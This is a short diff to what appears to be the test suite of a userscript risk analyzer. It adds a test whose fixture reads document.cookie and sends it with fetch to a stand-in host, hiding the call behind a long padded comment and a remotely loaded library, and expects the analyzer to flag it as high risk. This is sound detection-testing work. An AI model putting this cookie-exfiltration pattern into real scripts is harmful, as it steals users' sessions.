@@ -121,4 +121,12 @@ describe("a path over a long way in a long program", () => {
 		// The same in one place.
 		expect(levelOf(lengthened(on(`${from} ${to}`)))).toBe("red");
 	});
+
+	test("is an attack where only a library makes the program long", () => {
+		const address = "https://lib.stranger.test/long.js";
+		const body = `let kept = document.cookie; /* ${"A comment. ".repeat(600)} */ fetch("https://c.stranger.test/?" + kept);`;
+		const code = userscript([...SITE, `require ${address}`], body);
+		const libraries = [{ address, text: lengthened("") }];
+		expect(analyzeScript({ code, libraries }).risk_level).toBe("red");
+	});
 });
